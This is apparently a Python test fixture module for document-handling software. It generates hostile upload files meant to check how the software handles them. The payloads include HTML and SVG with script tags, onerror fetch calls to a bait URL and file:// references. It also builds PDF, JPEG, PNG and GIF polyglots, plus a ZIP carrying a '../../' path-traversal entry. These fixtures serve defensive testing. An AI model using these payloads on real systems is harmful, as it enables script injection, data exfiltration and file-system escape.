# SPDX-FileCopyrightText: 2026 the eakte authors
# SPDX-License-Identifier: EUPL-1.2
"""Pages and scripts under the names of documents, and files that are two things at once."""

from collections.abc import Iterator

from tests.hostile.archives import zipped
from tests.hostile.file import FLAGGED, JPEG, KEPT, PDF, PNG, REFUSED, STORED, Bait, Door, HostileFile
from tests.hostile.pdf import one_page
from tests.unit.processing.papers import saved, scanned


def markup(bait: Bait) -> Iterator[HostileFile]:
    html = f'<html><script src="{bait.url}"></script><img src=x onerror="fetch(\'{bait.url}\')">'.encode()
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">'
        f'<image xlink:href="file://{bait.file}"/><image xlink:href="{bait.url}"/></svg>'
    ).encode()
    yield HostileFile("seite.pdf", PDF, html, FLAGGED)
    yield HostileFile("seite.html", "text/html", html, STORED)
    yield HostileFile("bild.svg", "image/svg+xml", svg, STORED)
    yield HostileFile("bild.svg.png", PNG, svg, FLAGGED)
    yield HostileFile("skript.pdf", PDF, b"app.alert(1);//" + html, FLAGGED)
    yield HostileFile("seite.xhtml", "application/xhtml+xml", b"<?xml version='1.0'?>" + html, STORED)
    yield HostileFile(
        "seite.mht", "message/rfc822", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html, STORED
    )
    yield HostileFile("scan.html", "text/html", html, REFUSED, Door.SCAN)


def polyglots(bait: Bait) -> Iterator[HostileFile]:
    """What a reader finds depends on where it begins to read."""
    html = f"<html><script>fetch('{bait.url}')</script>".encode()
    paper = one_page()
    archive = zipped({"../../escaped.sh": bait.command.encode()})
    yield HostileFile("html-davor.pdf", PDF, html + b"<!--\n" + paper, KEPT)
    yield HostileFile("zip-dahinter.pdf", PDF, paper + archive, STORED)
    yield HostileFile("nach-1-MB.pdf", PDF, b"x" * (1 << 20) + paper, FLAGGED)
    yield HostileFile("gif.pdf", PDF, b"GIF89a=1;fetch('" + bait.url.encode() + b"');//", FLAGGED)
    yield HostileFile("bild.jpg", JPEG, _with_comment(saved(scanned(dpi=50), "JPEG"), html), STORED)
    yield HostileFile("bild.pdf", PDF, saved(scanned(dpi=50), "PNG") + html, STORED, Door.SCAN)
    yield HostileFile("pdf-im-bild.png", PNG, saved(scanned(dpi=50), "JPEG") + paper, STORED)
    yield HostileFile("kopf-nur.pdf", PDF, html + b"%PDF-1.7", FLAGGED)


def _with_comment(jpeg: bytes, comment: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + jpeg[2:]
